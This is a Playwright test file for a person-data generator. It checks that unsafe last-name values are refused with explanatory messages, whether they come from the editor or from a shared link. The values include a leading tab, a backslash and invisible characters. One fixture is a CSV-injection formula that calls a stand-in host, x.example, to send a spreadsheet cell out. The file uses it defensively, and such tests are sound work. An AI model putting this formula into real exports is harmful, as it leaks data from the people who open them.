/**
 * Safe values: a value that would harm whoever opens an export (a spreadsheet formula, an SQL
 * escape, a control character, nothing visible) is refused with the generator's own message,
 * naming the field and why, from the editor and from a link, and nothing of it is kept.
 */
import type { Page } from '@playwright/test';
import type { FieldName } from '../packages/generator/src/person/fields.ts';
import { expect, test } from './support/fixtures.ts';
import {
  fieldValue,
  linkFragment,
  lockButton,
  openPage,
  readValues,
  waitForStartedPage,
} from './support/page.ts';

/** A person no generator makes, opened by link on a fixed day, nothing locked. */
const LINDA: Record<FieldName, string> = {
  firstName: 'Linda',
  lastName: 'Johnson',
  gender: 'female',
  streetAddress: '412 Maple Avenue',
  city: 'Columbus',
  state: 'Ohio',
  zipCode: '43215',
  birthdate: '6/14/1958',
  email: 'linda.johnson58@example.org',
  phone: '614-555-0123',
};
const TODAY = '2026-01-15T12:00:00';
/** Opened from a CSV in a spreadsheet, a click on the cell sends the sheet's first cell away. */
const FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Click")';
const FORMULA_REFUSED =
  'Last Name starts with “=”, which a spreadsheet reads as the start of a formula.';

async function openLinda(page: Page): Promise<void> {
  await page.clock.install({ time: TODAY });
  await openPage(page, { person: LINDA });
}

const REFUSED: [string, string, string][] = [
  ['a spreadsheet formula', FORMULA, FORMULA_REFUSED],
  [
    'a backslash',
    'Johnson\\',
    'Last Name holds a backslash, which MySQL and MariaDB read as an escape in SQL text.',
  ],
  ['only zero-width spaces', '\u200b\u200b', 'Last Name is only invisible characters.'],
  // Pasted: a tab cannot be typed into a field (it moves the focus), but a paste keeps it.
  [
    'a leading tab',
    '\tTab',
    'Last Name starts with a tab, which a spreadsheet reads as the start of a formula.',
  ],
  [
    'only combining marks',
    '\u0301\u0308',
    'Last Name is only accents or other combining marks, with no letter to sit on.',
  ],
];

for (const [what, typed, message] of REFUSED) {
  test(`the editor refuses a last name of ${what}, saying why, and keeps nothing of it`, async ({
    page,
  }) => {
    await openLinda(page);
    await page.getByRole('button', { name: /^Edit Last Name( |$)/ }).click();
    const input = page.getByRole('textbox', { name: 'Last Name', exact: true });
    await input.fill(typed);
    await input.press('Enter');
    await expect(page.locator('.field-editor-message')).toHaveText(message);
    await expect(input).toHaveAccessibleDescription(new RegExp(`^${message.slice(0, 20)}`));
    await page.getByRole('button', { name: 'Cancel', exact: true }).click();
    await expect(input).toBeHidden();
    expect(await readValues(page)).toEqual(LINDA);
    await expect(lockButton(page, 'Last Name')).toHaveAttribute('aria-pressed', 'false');
  });
}

test('a link with a locked formula for a last name is refused with the message: the name is made anew, unlocked, and the link leaves the address bar', async ({
  page,
}) => {
  await page.clock.install({ time: TODAY });
  await page.goto(`/#${linkFragment({ ...LINDA, lastName: FORMULA }, 'lastName')}`);
  await waitForStartedPage(page);
  const alert = page.getByRole('alert').filter({ hasText: 'Last Name' });
  await expect(alert).toHaveText(
    `${FORMULA_REFUSED} A new value, unlocked, for Last Name. The rest is as the link has it.`,
  );
  await expect(fieldValue(page, 'lastName')).not.toBeEmpty();
  const shown = await readValues(page);
  expect(shown.lastName).not.toContain('HYPERLINK');
  expect(shown.lastName).not.toMatch(/^[=+\-@]/);
  expect({ ...shown, lastName: LINDA.lastName }).toEqual(LINDA);
  await expect(lockButton(page, 'Last Name')).toHaveAttribute('aria-pressed', 'false');
  expect(page.url()).not.toContain('HYPERLINK');
  expect(await page.locator('body').innerText()).not.toContain('HYPERLINK');
});
